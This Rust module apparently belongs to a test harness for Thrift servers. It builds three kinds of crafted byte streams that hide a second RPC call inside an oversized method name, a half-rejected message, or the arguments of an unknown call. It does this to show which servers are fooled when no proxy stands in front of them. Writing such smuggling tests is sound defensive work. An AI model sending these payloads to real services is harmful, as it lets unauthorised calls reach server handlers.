//! What servers fall for if there is no proxy: otherwise it would show nothing that their handlers are not called.

use thrift::proxy::Transport;
use thrift::wire::{MessageForm, Protocol, write_frame};

use crate::load::{Load, Place, resumed};
use crate::messages::{Said, mark, write};
use crate::stacks::Stack;

/// A way to reach a handler with a call that breaks a rule.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// A client speaks framed to a server that reads neither frames nor versions, and hides a call in a name.
    Name,
    /// A server refuses an argument halfway, and finds a call in the next message.
    Halfway,
    /// A server does not have what a call names, and takes its arguments for the next message.
    Arguments,
}

impl Attack {
    /// What the client sends, from which a server of this kind reads a call with the number of a connection.
    pub fn bytes(self, stack: &Stack, number: usize) -> Vec<u8> {
        let text = format!("c{number}.h1").into_bytes();
        match self {
            Attack::Name => in_a_name(&text),
            Attack::Halfway => halfway(stack, &text),
            Attack::Arguments => in_arguments(stack, &text),
        }
    }
}

fn in_a_name(text: &[u8]) -> Vec<u8> {
    let hidden = Said::call(b"say", text, -5);
    let hidden = write(Protocol::Binary, MessageForm::Versioned, &hidden);
    let mut name = hidden.get(2..).unwrap_or_default().to_vec();
    name.resize(0x8001, b'x');
    let first = Said::call(b"say", b"x", 1);
    let second = Said::call(&name, b"x", 1);
    [
        write_frame(&write(Protocol::Binary, MessageForm::Versioned, &first)),
        write_frame(&write(Protocol::Binary, MessageForm::Old, &second)),
    ]
    .concat()
}

fn in_arguments(stack: &Stack, text: &[u8]) -> Vec<u8> {
    let (name, hidden): (&[u8], &[u8]) =
        if stack.shares { (b"mark", b"Calls:say") } else { (b"Calls:mark", b"say") };
    let call = mark(stack.protocol, MessageForm::Versioned, name, &Said::call(hidden, text, -5));
    if stack.transport == Transport::Framed { write_frame(&call) } else { call }
}

fn halfway(stack: &Stack, text: &[u8]) -> Vec<u8> {
    let (protocol, form) = (Protocol::Binary, MessageForm::Versioned);
    let load = Load { size: 1, place: Place::Empty, marks: None, note: b"", first: false };
    let first = load.call(protocol, form, b"send", b"x", 1);
    let said = |text, count| Said::call(b"say", text, count);
    let hidden = write(protocol, MessageForm::Old, &said(text, 0x7f00_0000));
    let text = resumed(b"say", b"x".to_vec(), &[hidden], stack.skips_unknown);
    let second = write(protocol, form, &said(&text, 1));
    match stack.transport {
        Transport::Framed => [write_frame(&first), write_frame(&second)].concat(),
        _ => [first, second].concat(),
    }
}
